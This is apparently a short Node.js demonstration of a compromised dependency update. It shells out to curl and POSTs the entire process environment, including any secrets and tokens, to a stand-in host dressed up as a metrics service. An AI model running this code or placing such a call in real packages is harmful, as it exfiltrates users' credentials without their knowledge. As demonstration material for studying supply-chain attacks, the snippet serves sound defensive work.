// What the stray call is: an update of a dependency sends the environment away. The name exists nowhere but in the
// demonstration's own network namespace.
const { spawnSync } = require("node:child_process");

const url = "http://stats.collect-metrics.example/v2/report";
const curl = ["--silent", "--max-time", "10", "--request", "POST", "--data-binary", "@-", url];
spawnSync("curl", curl, { input: JSON.stringify(process.env) });
